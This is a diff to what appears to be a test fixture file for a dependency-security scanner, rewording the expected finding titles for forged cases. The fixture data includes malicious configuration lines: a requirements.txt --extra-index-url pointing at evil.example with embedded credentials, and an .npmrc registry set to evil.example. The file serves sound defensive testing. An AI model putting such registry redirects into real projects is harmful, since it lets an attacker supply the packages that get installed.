@@ -71,7 +71,7 @@ export const forged = {
   Python: {
     before: { "requirements.txt": "six==1.17.0\n" },
     after: { "requirements.txt": "# ours\n--extra-index-url https://user:pa55word@evil.example/simple\nsix==1.17.0\n" },
-    title: "--extra-index-url names an unknown registry",
+    title: "--extra-index-url in requirements.txt leads to an unknown registry",
     words: ["lets packages come from `https://evil.example/simple/`", "Take `https://evil.example/simple/` out of `requirements.txt`"],
     line: "--extra-index-url",
   },
@@ -92,7 +92,7 @@ export const forged = {
   "npm's settings": {
     before: { "package.json": manifest, "package-lock.json": good },
     after: { ".npmrc": "save-exact=true\nregistry=https://evil.example/npm/\n" },
-    title: "registry names an unknown registry",
+    title: "registry in .npmrc leads to an unknown registry",
     words: ["lets packages come from `https://evil.example/npm/`", "Take `https://evil.example/npm/` out of `.npmrc`"],
     line: "registry=",
   },
